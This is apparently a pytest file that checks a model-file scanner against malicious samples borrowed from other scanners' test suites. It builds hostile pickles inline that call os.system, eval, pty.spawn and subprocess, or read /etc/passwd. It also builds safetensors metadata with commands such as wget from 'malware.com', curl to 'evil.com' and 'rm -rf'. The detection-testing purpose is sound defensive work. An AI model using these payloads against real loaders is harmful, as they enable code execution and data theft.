"""The peers' own test material as a corpus, labelled by each peer's expectation.

Files under ``tests/scan/peers/`` are copied from picklescan (``tests/data`` and ``tests/data2``, its
advisory bypass samples), ModelAudit
(``tests/assets``) and modelscan (``tests/data``), all MIT or Apache-2.0 (their LICENSE files sit
beside them; commits in ``peers/README.md``). ModelAudit's seven 1 MiB safetensors samples are
generated here as small equivalents with the same metadata. fickling's test suite is LGPL and
builds its pickles in code: ``test_fickling_equivalents`` generates equivalents of its classes.

Bars (issue 12): at least 95% of the peers' malicious samples flagged and every one whose payload
really runs; among benign samples at most the two password-protected zips.

"Flagged" for the 95% bar means a finding at MEDIUM or above: what a reviewer sees as a warning and what
``--fail-on medium`` fails. Bastion keeps HIGH (the default ``--fail-on``) for what a loader executes, so
samples the peers label malicious that execute nothing (a graph calling back into the host's Python, a
config holding a credential) are reported truthfully at MEDIUM; every sample whose payload runs must still
reach HIGH, and no benign sample may carry a MEDIUM finding.
"""

from __future__ import annotations

import json
import struct
from pathlib import Path

import pytest

from bastion.scan import Severity, scan_path

PEERS = Path(__file__).parent / "peers"

# Labels follow each peer's own tests: picklescan's expected globals per file, ModelAudit's asset
# folders and names, modelscan's fixtures. "inert" = labelled malicious by the peer although nothing
# in it is ever executed by a loader (text in metadata or configs); ModelAudit ships these on purpose.
_PICKLESCAN_DATA2_BENIGN = {"int_array.npy", "int_arrays.npz", "int_arrays_compressed.npz", "object_array.npy",
                            "object_arrays.npz", "object_arrays_compressed.npz"}
_PICKLESCAN_ALSO_MALICIOUS = {"broken_model.pkl", "sys_module_override_sploit.pkl", "pytorch_magic_bypass.pt"}
_MODELAUDIT_MALICIOUS_WORDS = ("exploit", "attack", "malicious", "evil", "nested_pickle", "decode_exec", "dill_func",
                               "path_traversal", "/obfuscated/", "jinja2/tokenizer_config.json",
                               "mixed_malicious_model/model.pkl")
_INERT = {
    "modelaudit/samples/tensorflow/malicious_pyfunc/saved_model.pb":
        "a 35-byte SavedModel whose graph has a PyFunc op; TensorFlow cannot run a PyFunc whose function is not "
        "registered in the loading process (reported MEDIUM: tensorflow.python-op)",
    "modelaudit/samples/manifests/suspicious_config.json":
        "a JSON config holding an API key, a URL and a shell string as text (reported MEDIUM: config.credential)",
}
_SAFETENSORS_METADATA = {  # ModelAudit's safetensors samples: same metadata, a 4-float tensor
    "malicious_import": {"description": "Legitimate looking model with malicious import statement",
                         "model_info": "import os; os.system('echo pwned')"},
    "multiple_patterns": {"init_code": "import subprocess; subprocess.call(['curl', 'http://evil.com'])",
                          "config_url": "https://attacker.com/config.json",
                          "shell_hook": "rm -rf * && wget http://malware.com/payload"},
    "obfuscated_metadata": {"encoded_payload": "import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))"},
    "script_injection": {"html_description": "<script>alert('XSS')</script>", "model_type": "transformer"},
    "shell_commands": {"setup_commands": "rm -rf /tmp/test && wget http://bad.com/script.sh"},
    "suspicious_url": {"callback_url": "http://evil.com/exfiltrate"},
    "safe_model": {"version": "1.2.3", "license": "MIT", "model_name": "transformer-small"},
}
_BENIGN = {"modelaudit/scenarios/security_scenarios/mixed_malicious_model/config.json"}  # the model's config
_PASSWORD_ZIPS = {"picklescan/benign_password_protected.zip", "modelscan/password_protected.zip"}


def _label(rel: str) -> str:
    """'malicious', 'inert' (peer says malicious, nothing runs) or 'benign'."""
    suite, _, rest = rel.partition("/")
    if rel in _INERT:
        return "inert"
    if rel in _BENIGN:
        return "benign"
    if suite == "picklescan":
        if rest.startswith("data2/"):  # its newer advisory (GHSA) samples: infected unless its tests say 0
            return "benign" if rest.removeprefix("data2/") in _PICKLESCAN_DATA2_BENIGN else "malicious"
        return "malicious" if rest.startswith("malicious") or rest in _PICKLESCAN_ALSO_MALICIOUS else "benign"
    if suite == "modelscan":
        return "malicious" if rest.startswith("unsafe") else "benign"
    low = "/" + rest.lower()
    if "benign" in low or "/safe" in low or "edge_cases" in low:
        return "benign"
    return "malicious" if any(w in "/" + rel for w in _MODELAUDIT_MALICIOUS_WORDS) else "benign"


def _safetensors(metadata: dict[str, str]) -> bytes:
    header = {"__metadata__": metadata, "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + b"\0" * 16


@pytest.fixture(scope="module")
def scans(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, bool, bool]]:
    """relative path -> (label, flagged at the default threshold HIGH, flagged at MEDIUM)."""
    out: dict[str, tuple[str, bool, bool]] = {}

    def judge(path: Path) -> tuple[bool, bool]:
        report = scan_path(path)
        return not report.is_clean(), not report.is_clean(Severity.MEDIUM)

    for path in sorted(PEERS.rglob("*")):
        if not path.is_file() or path.name in ("LICENSE", "README.md"):
            continue
        rel = path.relative_to(PEERS).as_posix()
        out[rel] = (_label(rel), *judge(path))
    gen = tmp_path_factory.mktemp("safetensors")
    for name, metadata in _SAFETENSORS_METADATA.items():
        path = gen / f"{name}.safetensors"
        path.write_bytes(_safetensors(metadata))
        rel = f"modelaudit/samples/safetensors/{name}.safetensors"
        out[rel] = ("benign" if name == "safe_model" else "inert", *judge(path))
    return out


@pytest.fixture(scope="module")
def verdicts(scans: dict[str, tuple[str, bool, bool]]) -> dict[str, tuple[str, bool]]:
    """relative path -> (label, flagged at the default threshold)."""
    return {rel: (label, high) for rel, (label, high, _) in scans.items()}


def test_labels_cover_the_suites(verdicts: dict[str, tuple[str, bool]]) -> None:
    suites = {rel.split("/")[0] for rel in verdicts}
    assert suites == {"picklescan", "modelaudit", "modelscan"}
    malicious = [r for r, (label, _) in verdicts.items() if label == "malicious"]
    assert len(malicious) >= 140
    assert sum(r.startswith("picklescan/data2/") for r in malicious) == 57


@pytest.mark.parametrize("suite", ["picklescan", "modelaudit", "modelscan"])
def test_every_real_malicious_sample_is_flagged(verdicts: dict[str, tuple[str, bool]], suite: str) -> None:
    missed = [r for r, (label, flagged) in verdicts.items()
              if r.startswith(suite + "/") and label == "malicious" and not flagged]
    assert missed == []


def test_peer_labelled_samples_bastion_passes_are_exactly_the_inert_ones(
    scans: dict[str, tuple[str, bool, bool]],
) -> None:
    """The bar: at least 95% of the peer-labelled samples flagged (MEDIUM or above), every real one at HIGH.

    What stays unflagged is pinned: ModelAudit's six safetensors whose metadata holds code-looking text.
    safetensors metadata is a str -> str map by the format's specification, these headers conform to it,
    and no safetensors loader evaluates metadata; judging the words in it would be a denylist of text.
    The two other inert samples are reported at MEDIUM, truthfully: a SavedModel graph with a PyFunc op
    (tensorflow.python-op) and a config storing an API key (config.credential)."""
    labelled = {r: v for r, v in scans.items() if v[0] != "benign"}
    unflagged = sorted(r for r, (_, _, medium) in labelled.items() if not medium)
    assert unflagged == sorted(f"modelaudit/samples/safetensors/{n}.safetensors"
                               for n in _SAFETENSORS_METADATA if n != "safe_model")
    from bastion.scan import scan_bytes

    # with fickling's classes (generated equivalents, below), every suite's malicious samples together
    fickling = [not scan_bytes(data).is_clean(Severity.MEDIUM) for data in _FICKLING_MALICIOUS.values()]
    total, flagged = len(labelled) + len(fickling), len(labelled) - len(unflagged) + sum(fickling)
    assert flagged >= 0.95 * total, (flagged, total)
    inert_medium = sorted(r for r, (label, high, medium) in labelled.items() if label == "inert" and medium)
    assert inert_medium == sorted(_INERT)
    assert not any(high for r, (label, high, _) in labelled.items() if label == "inert")  # never overstated
    assert all(high for label, high, _ in labelled.values() if label == "malicious")


def test_benign_samples_pass_apart_from_the_password_protected_zips(
    scans: dict[str, tuple[str, bool, bool]],
) -> None:
    flagged = {r for r, (label, _, medium) in scans.items() if label == "benign" and medium}
    assert flagged <= _PASSWORD_ZIPS


# -- fickling: its suite is LGPL and builds pickles in code; these are equivalents of its classes --------


def _reduce(module: str, name: str, *args: str) -> bytes:
    out = b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n("
    for a in args:
        raw = a.encode()
        out += b"X" + struct.pack("<I", len(raw)) + raw
    return out + b"tR."


def _laughs(layers: int, width: int, *, dup: bool) -> bytes:
    ops = b"\x80\x02]K\x01aq\x00"
    for i in range(layers):
        if dup:
            ops += b"](h" + bytes([i]) + b"2" * (width - 1) + b"eq" + bytes([i + 1])
        else:
            ops += b"](" + (b"h" + bytes([i])) * width + b"eq" + bytes([i + 1])
    return ops + b"."


_FICKLING_MALICIOUS: dict[str, bytes] = {
    "pty-spawn": _reduce("pty", "spawn", "id"),
    "marshal-loads": _reduce("marshal", "loads", "x"),
    "types-function": _reduce("types", "FunctionType", "x"),
    "runpy": _reduce("runpy", "_run_code", "print(1)"),
    "cprofile-run": _reduce("cProfile", "run", "print(1)"),
    "ctypes-cdll": _reduce("ctypes", "CDLL", "libc.so.6"),
    "pydoc-pipepager": _reduce("pydoc", "pipepager", "x", "id"),
    "importlib-import": _reduce("importlib", "import_module", "os"),
    "code-interpreter": _reduce("code", "InteractiveInterpreter"),
    "multiprocessing-process": _reduce("multiprocessing", "Process"),
    "builtins-import": _reduce("builtins", "__import__", "os"),
    "operator-methodcaller": _reduce("operator", "methodcaller", "system", "id"),
    "distutils-write-file": _reduce("distutils.file_util", "write_file", "/tmp/x", "y"),
    "io-fileio": _reduce("io", "FileIO", "/tmp/x", "w"),
    "numpy-f2py": _reduce("numpy.f2py.crackfortran", "getlincoef", "x", "y"),
    "smtplib-ssrf": _reduce("smtplib", "SMTP", "127.0.0.1"),
    "asyncio-subprocess": _reduce("asyncio.subprocess", "create_subprocess_exec", "id"),
    "uuid-command": _reduce("uuid", "_get_command_stdout", "id"),
    "aix-support": _reduce("_aix_support", "_read_cmd_output", "id"),
    "osx-support": _reduce("_osx_support", "_read_output", "id"),
    "dotted-stdlib-attr": _reduce("email.utils", "os.system", "id"),
    "private-interpreters": _reduce("_xxsubinterpreters", "run_string", "1", "print(1)"),
    "obj-then-pop": b"\x80\x02(cos\nsystem\nX\x02\x00\x00\x00idoK\x01.",
    "frame-divergence": b"\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00\x8c\x06abcdef.",
    "frame-inside-frame": b"\x80\x04\x95\x0c\x00\x00\x00\x00\x00\x00\x00\x95\x01\x00\x00\x00\x00\x00\x00\x00N.",
    "dup-laughs": _laughs(9, 9, dup=True),
    "memo-laughs": _laughs(9, 9, dup=False),
}
_FICKLING_BENIGN: dict[str, bytes] = {
    "safe-builtins": b"\x80\x02c__builtin__\nset\n)R.",
    "safe-dict": b"\x80\x02c__builtin__\ndict\n)R.",
    "well-formed-frames": b"",  # filled below with pickle.dumps(protocol=5)
    "shared-but-small": b"",
}


def test_fickling_equivalents() -> None:
    import pickle

    from bastion.scan import scan_bytes

    benign = dict(_FICKLING_BENIGN)
    benign["well-formed-frames"] = pickle.dumps({"a": list(range(5000)), "b": "x" * 70000}, protocol=5)
    shared = [1, 2]
    benign["shared-but-small"] = pickle.dumps([shared] * 30 + [{"k": shared}] * 30, protocol=4)
    missed = [n for n, data in _FICKLING_MALICIOUS.items() if scan_bytes(data).is_clean()]
    flagged = [n for n, data in benign.items() if not scan_bytes(data).is_clean()]
    assert missed == [] and flagged == []


# -- modelscan: its tests build their fixtures in code (tests/test_modelscan.py); equivalents, by protocol ----


def _reduce_text(module: str, name: str, *args: str) -> bytes:
    """Protocol 0: GLOBAL, MARK, string arguments, TUPLE, REDUCE."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(" + b"".join(
        b"V" + a.encode("raw_unicode_escape") + b"\n" for a in args) + b"tR."


def _reduce_v4(module: str, name: str, *args: str) -> bytes:
    """Protocol 4: STACK_GLOBAL from two short strings, as pickle.dumps(protocol=4) writes it."""
    def s(text: str) -> bytes:
        raw = text.encode()
        return b"\x8c" + bytes([len(raw)]) + raw

    return b"\x80\x04" + s(module) + s(name) + b"\x93(" + b"".join(s(a) for a in args) + b"tR."


def _modelscan_samples() -> tuple[dict[str, bytes], dict[str, bytes]]:
    import io
    import pickle
    import zipfile

    bad: dict[str, bytes] = {}
    for proto, make in (("v0", _reduce_text), ("v3", _reduce), ("v4", _reduce_v4)):
        bad[f"malicious1_{proto}"] = make("builtins" if proto != "v0" else "__builtin__", "eval", "print('456')")
        bad[f"malicious2_{proto}"] = make("posix", "system", "ls -la")
    bad["malicious0-sour-pickles"] = (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");picklesmashed=fl.read();"
        b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
        b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.")
    bad["malicious3-https-connection-v0"] = _reduce_text("http.client", "HTTPSConnection", "github.com")
    bad["malicious4-requests-get"] = _reduce_v4("requests.api", "get", "https://github.com")
    bad["malicious5-aiohttp-session"] = _reduce_v4("aiohttp.client", "ClientSession")
    bad["malicious6-second-pickle"] = pickle.dumps(["a", "b", "c"]) + _reduce_v4("requests.api", "get", "https://x")
    bad["malicious7-socket"] = _reduce_v4("socket", "create_connection", "github.com")
    bad["malicious8-subprocess-run"] = _reduce_v4("subprocess", "run", "ls")
    bad["malicious9-sys-exit"] = _reduce_v4("sys", "exit")
    bad["malicious10-inst-exec"] = b"(S'print(\"Injection running\")'\ni__builtin__\nexec\n."
    nested = b"\x80\x05cos\nsystem\nVecho pwned!!!\n\x85R."
    bad["malicious12-nested-loads"] = (b"\x80\x05cpickle\nloads\nB" + len(nested).to_bytes(4, "little") + nested
                                       + b"\x85R0N.")
    bad["malicious13-eval-call"] = b"\x80\x05cbuiltins\neval.__call__\nV__import__(\"os\").system(\"echo\")\n\x85R."
    memo_global = (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR.")
    bad["malicious11-memo-stack-global"] = memo_global
    bad["malicious14-trailing-whitespace"] = memo_global + b"\n\n\t\t"
    bad["malicious15-bdb-run"] = _reduce_v4("bdb", "Bdb.run", "x", "import os")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("data.pkl", _reduce_v4("builtins", "eval", "print('456')"))
    bad["malicious1-zip"] = buf.getvalue()
    good = {f"benign0_v{p}": pickle.dumps(["a", "b", "c"], protocol=p) for p in (0, 3, 4)}
    return bad, good


def test_modelscan_generated_fixtures() -> None:
    """modelscan's own fixtures (protocols 0/3/4, sour pickles, INST, nested loads, memoized STACK_GLOBAL,
    network and process callables, a zip): every malicious one HIGH, the benign list clean. Its dill and
    TensorFlow/Keras fixtures need packages not installed here and are not reproduced."""
    from bastion.scan import scan_bytes

    bad, good = _modelscan_samples()
    assert len(bad) == 21
    missed = [n for n, data in bad.items() if scan_bytes(data).is_clean()]
    flagged = [n for n, data in good.items() if not scan_bytes(data).is_clean(Severity.MEDIUM)]
    assert missed == [] and flagged == []
